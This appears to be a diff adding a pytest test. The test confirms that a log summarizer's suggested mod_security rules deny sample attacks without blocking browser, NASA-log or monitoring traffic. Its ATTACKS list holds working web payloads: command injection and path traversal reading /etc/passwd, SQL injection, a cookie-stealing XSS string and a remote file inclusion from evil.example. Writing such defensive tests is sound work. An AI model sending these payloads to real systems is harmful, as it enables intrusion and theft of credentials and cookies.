@@ -390,3 +390,140 @@ def test_summarizer_leaves_ignored_networks_out(tmp_path):
     assert "127.0.0.1" not in p.stdout and "10.9.8.7" not in p.stdout
     assert "203.0.113.7" in p.stdout
     assert "Ignored: 10 records" in p.stdout
+
+
+# ---- mod_security suggestions never block ordinary traffic ----
+
+MODSEC = "/usr/lib/apache2/modules/mod_security2.so"
+
+# Firefox and Chrome as they send a page request, with their real Accept*
+# headers (the ';' of the q-values is in every one of them).
+BROWSER_HEADERS = [
+    [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) "
+                    "Gecko/20100101 Firefox/120.0"),
+     ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,"
+                "image/avif,image/webp,*/*;q=0.8"),
+     ("Accept-Language", "de,en-US;q=0.7,en;q=0.3"),
+     ("Accept-Encoding", "gzip, deflate, br")],
+    [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
+                    "AppleWebKit/537.36 (KHTML, like Gecko) "
+                    "Chrome/120.0.0.0 Safari/537.36"),
+     ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,"
+                "image/avif,image/webp,image/apng,*/*;q=0.8,"
+                "application/signed-exchange;v=b3;q=0.7"),
+     ("Accept-Language", "de;q=0.9"),
+     ("Accept-Encoding", "gzip, deflate, br"),
+     ("Sec-Ch-Ua", '"Chromium";v="120", "Not?A_Brand";v="24"')],
+]
+
+ATTACKS = ["/?cmd=;cat%20/etc/passwd",
+           "/index.html?page=../../../../etc/passwd",
+           "/index.html?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+           "/index.html?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+           "/index.html?file=http://evil.example/shell.txt%3F"]
+
+
+def modsec_server(tmp_path, rules):
+    (tmp_path / "rules.conf").write_text("\n".join(rules) + "\n")
+    (tmp_path / "docroot").mkdir()
+    (tmp_path / "docroot" / "index.html").write_text("ok\n")
+    port = lwhttpd.free_port()
+    conf = tmp_path / "httpd.conf"
+    conf.write_text("""ServerRoot {d}
+ServerName localhost
+Listen 127.0.0.1:{port}
+PidFile {d}/httpd.pid
+ErrorLog {d}/error.log
+LoadModule mpm_event_module {m}/mod_mpm_event.so
+LoadModule authz_core_module {m}/mod_authz_core.so
+LoadModule unique_id_module {m}/mod_unique_id.so
+LoadModule dir_module {m}/mod_dir.so
+LoadModule security2_module {m}/mod_security2.so
+UseCanonicalName Off
+DocumentRoot {d}/docroot
+DirectoryIndex index.html
+<Directory {d}/docroot>
+  Require all granted
+</Directory>
+SecRuleEngine On
+SecRequestBodyAccess On
+SecDataDir {d}
+Include {d}/rules.conf
+""".format(d=tmp_path, port=port, m=lwhttpd.MODDIR))
+    t = subprocess.run([lwhttpd.APACHE2, "-t", "-f", str(conf)],
+                       capture_output=True, text=True)
+    assert t.returncode == 0, t.stderr
+    subprocess.run([lwhttpd.APACHE2, "-f", str(conf), "-k", "start"],
+                   check=True)
+    for _ in range(300):
+        try:
+            lwhttpd.raw_request(port, "GET / HTTP/1.1", [("Host", "x")])
+            break
+        except OSError:
+            time.sleep(0.05)
+    return conf, port
+
+
+@pytest.mark.skipif(not os.path.exists(MODSEC),
+                    reason="needs libapache2-mod-security2 (scripts/deps.sh)")
+def test_modsecurity_suggestions_pass_ordinary_traffic(httpd_factory,
+                                                       tmp_path):
+    """Attacks that reached the application in a real httpd with the
+    module; the summarizer's suggestions, checked against the NASA log,
+    loaded into a real mod_security2: they deny the attacks they were made
+    for, and not one benign request (the NASA log's, popular User-Agents
+    with a browser's Accept* headers, the admin's monitoring)."""
+    nasa = lwhttpd.corpus("benign", "nasa_jul95_first10k.log")
+    h = httpd_factory(mpm="event")
+    for t in ATTACKS:
+        assert h.get(t, xff="203.0.113.9") == 200
+    h.get("/server-status?auto", xff="203.0.113.9")
+    recs = h.wait_records(len(ATTACKS) + 1)
+    assert len(recs) >= len(ATTACKS)
+    # and a probe of a path ordinary traffic asks for (recorded elsewhere)
+    log = tmp_path / "attack.log"
+    with open(log, "w") as f:
+        f.write("".join(l.decode() + "\n" for l in h.lines()))
+        f.write(attack_record("203.0.113.9", "/images/NASA-logosmall.gif",
+                              200, "probe") + "\n")
+    p = summarize("--modsecurity", "--benign", nasa, "--threshold", "1",
+                  str(log))
+    text = p.stdout
+    m = re.search(r"checked against (\d+) benign requests \(--benign\): "
+                  r"(\d+) dropped", text)
+    assert m and int(m.group(1)) > 9000 and int(m.group(2)) >= 1, text
+    section = text.split("mod_security suggestions (review", 1)[1]
+    rules = [l for l in section.splitlines()
+             if l.lstrip().startswith("SecRule")]
+    assert rules, text
+    body = "\n".join(rules)
+    assert "REQUEST_HEADERS" not in body and "server-status" not in body
+    assert "NASA-logosmall" not in body
+    assert "[;|`]" not in body
+    conf, port = modsec_server(tmp_path, rules)
+    try:
+        def status(target, headers=()):
+            return lwhttpd.raw_request(
+                port, "GET %s HTTP/1.1" % target,
+                [("Host", "localhost")] + list(headers))[0]
+        # the attacks they were made for
+        for t in ATTACKS:
+            assert status(t) == 403, t
+        # ordinary traffic: browsers on the attacked paths ...
+        for hdrs in BROWSER_HEADERS:
+            for t in ("/", "/index.html", "/?cmd=ls", "/index.html?id=5",
+                      "/index.html?q=union+station",
+                      "/index.html?page=about"):
+                assert status(t, hdrs) != 403, (t, hdrs)
+        # ... popular User-Agents with those Accept* headers ...
+        for ua in lwhttpd.user_agents():
+            hdrs = [("User-Agent", ua)] + BROWSER_HEADERS[0][1:]
+            assert status("/", hdrs) != 403, ua
+            assert status("/index.html", hdrs) != 403, ua
+        # ... the NASA log's requests, and the admin's monitoring
+        for line in lwhttpd.benign_request_lines(3000, nasa):
+            st = lwhttpd.raw_request(port, line, [("Host", "localhost")])[0]
+            assert st != 403, line
+        assert status("/server-status?auto") != 403
+    finally:
+        subprocess.run([lwhttpd.APACHE2, "-f", str(conf), "-k", "stop"])
